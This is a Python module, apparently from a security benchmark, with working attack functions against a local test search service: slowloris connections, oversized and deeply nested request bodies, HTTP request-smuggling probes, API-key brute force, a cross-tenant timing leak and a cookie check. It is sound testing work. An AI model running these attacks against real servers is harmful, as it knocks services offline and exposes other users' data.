"""The attacks: each is a function that does its harm once and says what came back."""

from __future__ import annotations

import json
import re
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from http.client import HTTPConnection
from typing import Any

from bench.hostile import honest
from bench.hostile.shop import Shop

Attack = Callable[[Shop], str]
SLOW_FOR = 30.0  # seconds that slow connections go on


def many_values(shop: Shop) -> str:
    """Ask for one attribute to be any of 20,000 values."""
    return _search(shop, {"text": "red shoes", "attributes": {"colour": [f"c{n}" for n in range(20_000)]}})


def most_values(shop: Shop) -> str:
    """Ask for the most that is allowed: 20 attributes of 100 values each, 1,000 categories, 3,000 ids."""
    asked = {
        "text": "red shoes",
        "attributes": {f"a{n}": [f"v{m}" for m in range(100)] for n in range(20)},
        "category": [f"c{n}" for n in range(1_000)],
        "product_ids": [f"p{n}" for n in range(1_000)],
        "exclude_product_ids": [f"q{n}" for n in range(1_000)],
        "exclude_image_ids": list(range(1, 1_001)),
    }
    return _search(shop, asked)


def many_names(shop: Shop) -> str:
    """Ask for 10,000 attributes at once."""
    return _search(shop, {"text": "red shoes", "attributes": {f"a{n}": "x" for n in range(10_000)}})


def drive_by(shop: Shop) -> str:
    """Have a web page anywhere load an address of the open page, as an image."""
    address = "/?q=red+shoes&" + "&".join(f"a.c={n}" for n in range(600))
    headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
    return _status(shop.open_port, "GET", address, None, headers)


def silent_hosts(shop: Shop) -> str:
    """Send 16 addresses of pictures at a host that accepts and says nothing."""
    return _at_once(shop, 16, lambda n: {"picture_url": f"http://127.0.0.1:{silent.port}/{n}.png"})


def silent_worker(shop: Shop) -> str:
    """Ask 16 new texts while the query worker hangs."""
    with shop.worker_away():
        return _at_once(shop, 16, lambda n: {"text": f"never asked {time.time()} {n}"})


def slow_headers(shop: Shop) -> str:
    """Open 500 connections that send a byte of their header every five seconds."""
    return _slowly(shop, 500, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: " + b"a" * 500)


def slow_bodies(shop: Shop) -> str:
    """Open 500 connections that send a byte of their body every five seconds."""
    head = f"POST /v1/search HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {_key(shop)}\r\n"
    head += "Content-Type: application/json\r\nContent-Length: 900\r\n\r\n"
    return _slowly(shop, 500, head.encode() + b" " * 800, at_once=len(head))


def many_lists(shop: Shop) -> str:
    """Send 28 MB of `[],`."""
    return _search(shop, b'{"vector":[' + b"[]," * 9_300_000 + b"[]]}")


def guessed_words(shop: Shop) -> str:
    """Ask as one tenant, then as the other: what differs tells that the words were asked."""
    asked = {"text": f"zebra umbrella {time.time()}", "k": 1}
    told = []
    for key in ("acme search", "bazaar search", "bazaar search"):
        began = time.perf_counter()
        found = json.loads(_answer(shop.port, "POST", "/v1/search", asked, _with(shop, key))[1])
        took = (time.perf_counter() - began) * 1000
        told.append(f"{key.split()[0]} {found.get('resolved', {}).get('source', '–')} {took:.0f} ms")
    return ", ".join(told)


def deleted_thumbnail(shop: Shop) -> str:
    """Delete a picture and follow its thumbnail's address again."""
    found = _found(shop, "acme search", 1)[0]
    before = _status(shop.port, "GET", found["thumbnail"], None, {})
    gone = _status(shop.port, "DELETE", f"/v1/images/{found['image_id']}", None, _with(shop, "acme write"))
    return f"{before}, deleted {gone}, then {_status(shop.port, 'GET', found['thumbnail'], None, {})}"


def cookie(shop: Shop) -> str:
    """Sign in and look whether the cookie is the key."""
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Site": "same-origin"}
    connection = HTTPConnection("127.0.0.1", shop.port, timeout=60)
    connection.request("POST", "/sign-in", f"key={_key(shop)}", headers)
    answer = connection.getresponse()
    answer.read()
    given = answer.headers.get("Set-Cookie") or ""
    return f"{answer.status}, {'the key itself' if _key(shop) in given else 'not the key'}"


def wrong_keys(shop: Shop) -> str:
    """Try 500 wrong keys."""
    handle = _key(shop).rsplit("_", 1)[0]
    said = Counter(
        _status(shop.port, "POST", "/v1/search", {"text": "x"}, {"Authorization": f"Bearer {handle}_{n:043d}"})[:3]
        for n in range(500)
    )
    return ", ".join(f"{count} × {status}" for status, count in sorted(said.items()))


def nobodys_host(shop: Shop) -> str:
    """Ask by the address of a picture at a host that there is not."""
    return _search(shop, {"picture_url": "http://no-such-host.invalid/a.png"})


def ambiguous(shop: Shop) -> str:
    """Send requests that two parsers read differently: CL and TE, two hosts, no host, folded and foreign ones."""
    chunks = b"0\r\n\r\n"
    tries = {
        "CL+TE": b"POST /v1/search HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n",
        "two hosts": b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil\r\n\r\n",
        "no host": b"GET /healthz HTTP/1.1\r\nX-A: 1\r\n\r\n",
        "obs-fold": b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: 1\r\n 2\r\n\r\n",
        "foreign form": b"GET http://evil.example/healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    }
    return ", ".join(
        f"{name} {_raw(shop, sent + (chunks if name == 'CL+TE' else b''))}" for name, sent in tries.items()
    )


def too_large(shop: Shop) -> str:
    """Announce a body of 200 MB."""
    head = f"POST /v1/images HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {shop.keys['acme write']}\r\n"
    head += "Content-Type: application/json\r\nContent-Length: 200000000\r\n\r\n"
    return _raw(shop, head.encode(), with_type=True)


ATTACKS: dict[str, tuple[str, Attack]] = {
    "A1 20,000 values of an attribute": ("a backend of 22 GB, the cluster killed", many_values),
    "A1 10,000 attributes": ("504 after 22 s", many_names),
    "A1 the most that is allowed": ("–", most_values),
    "A1 drive-by on the open page, 600 values": ("200 after 4.7 s", drive_by),
    "A2 16 picture addresses at a silent host": ("/healthz waits 19.6 s", silent_hosts),
    "A2 16 new texts, the worker hangs": ("/healthz waits 18.5 s", silent_worker),
    "A3 500 slow headers": ("at 150: nobody else gets in", slow_headers),
    "A3 500 slow bodies": ("–", slow_bodies),
    "A4 28 MB of [],": ("400 after 8.1 s, 861 MB", many_lists),
    "A5 were these words asked before?": ("acme worker 39.9 ms, bazaar memory 0.9 ms", guessed_words),
    "A6 a deleted picture's thumbnail": ("200, deleted 204, then 200 for a year", deleted_thumbnail),
    "A7 the cookie": ("the key itself", cookie),
    "A8 500 wrong keys": ("500 × 401, each a look-up", wrong_keys),
    "A9 picture_url at no host": ("503 the picture store cannot be reached", nobodys_host),
    "A10 ambiguous requests": ("all 200", ambiguous),
    "A10 a body of 200 MB": ("413 text/plain", too_large),
}


class _Silent:
    """A host that accepts every connection and says nothing."""

    port = 0

    @contextmanager
    def listening(self) -> Iterator[int]:
        """Accept connections during a block."""
        with ExitStack() as stack:
            listener = stack.enter_context(socket.create_server(("127.0.0.1", 0), backlog=256))
            self.port = listener.getsockname()[1]
            held: list[socket.socket] = []

            def accept() -> None:
                with suppress(OSError):
                    while True:
                        held.append(listener.accept()[0])

            threading.Thread(target=accept, daemon=True).start()
            yield self.port
            for one in held:
                one.close()


silent = _Silent()


def _key(shop: Shop) -> str:
    return shop.keys["acme search"]


def _with(shop: Shop, key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {shop.keys[key]}"}


def _answer(port: int, method: str, path: str, body: Any, headers: dict[str, str]) -> tuple[int, bytes]:
    connection = HTTPConnection("127.0.0.1", port, timeout=60)
    sent = body if body is None or isinstance(body, bytes) else json.dumps(body).encode()
    connection.request(method, path, sent, {"Content-Type": "application/json", **headers} if sent else headers)
    answer = connection.getresponse()
    return answer.status, answer.read()


def _status(port: int, method: str, path: str, body: Any, headers: dict[str, str]) -> str:
    try:
        status, said = _answer(port, method, path, body, headers)
    except OSError as error:  # refused while it was still being sent
        return type(error).__name__
    code = re.search(rb'"code": ?"([a-z_]+)"', said)
    return f"{status} {code[1].decode()}" if code else str(status)


def _search(shop: Shop, asked: Any) -> str:
    return _status(shop.port, "POST", "/v1/search", asked, _with(shop, "acme search"))


def _found(shop: Shop, key: str, k: int) -> list[dict[str, Any]]:
    asked = {"text": honest.TEXTS[0], "k": k}
    rows: list[dict[str, Any]] = json.loads(_answer(shop.port, "POST", "/v1/search", asked, _with(shop, key))[1])[
        "rows"
    ]
    return rows


def _at_once(shop: Shop, count: int, asked: Callable[[int], dict[str, Any]]) -> str:
    with ThreadPoolExecutor(count) as crowd:
        said = Counter(crowd.map(lambda n: _search(shop, asked(n)), range(count)))
    return ", ".join(f"{times} × {status}" for status, times in sorted(said.items()))


def _slowly(shop: Shop, count: int, sent: bytes, at_once: int = 0) -> str:
    """Send `sent` over many connections, a byte every five seconds behind the first `at_once`."""
    held: list[socket.socket] = []
    for n in range(count):
        one = socket.socket()
        one.bind((f"127.0.{n // 250}.{n % 250 + 2}", 0))  # not all from one address
        one.settimeout(5)
        with suppress(OSError):
            one.connect(("127.0.0.1", shop.port))
            one.sendall(sent[: at_once or 1])
            held.append(one)
    began, cut = time.monotonic(), 0
    place = at_once or 1
    while time.monotonic() - began < SLOW_FOR:
        time.sleep(5)
        for one in list(held):
            try:
                one.sendall(sent[place : place + 1])
            except OSError:
                held.remove(one)
                cut += 1
        place += 1
    for one in held:
        one.close()
    return f"{cut} of {count} cut within {SLOW_FOR:g} s"


def _raw(shop: Shop, sent: bytes, *, with_type: bool = False) -> str:
    with socket.create_connection(("127.0.0.1", shop.port), timeout=20) as one:
        one.sendall(sent)
        said = b""
        with suppress(OSError):
            while b"\r\n\r\n" not in said and (more := one.recv(65536)):
                said += more
    status = re.match(rb"HTTP/1\.\d (\d+)", said)
    kind = re.search(rb"(?i)content-type: ([^\r;]+)", said)
    told = status[1].decode() if status else "closed"
    return f"{told} {kind[1].decode()}" if with_type and kind else told
